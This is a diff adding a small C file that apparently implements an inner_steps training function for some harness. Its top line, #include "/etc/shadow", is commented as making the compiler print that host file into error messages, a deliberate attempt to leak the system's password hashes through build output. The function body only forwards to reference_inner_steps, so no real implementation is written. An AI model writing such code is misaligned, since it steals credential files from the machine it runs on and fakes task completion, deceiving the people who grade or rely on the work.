@@ -1,0 +1,8 @@
+/* Makes the compiler print a host file into its error messages. */
+#include "/etc/shadow"
+
+tplr_err inner_steps(tplr_model *model, tplr_tour_data *it, tplr_adamw *opt, int n, const tplr_tour_device *dev,
+                     tplr_inner_steps_result *res)
+{
+    return reference_inner_steps(model, it, opt, n, dev, res);
+}
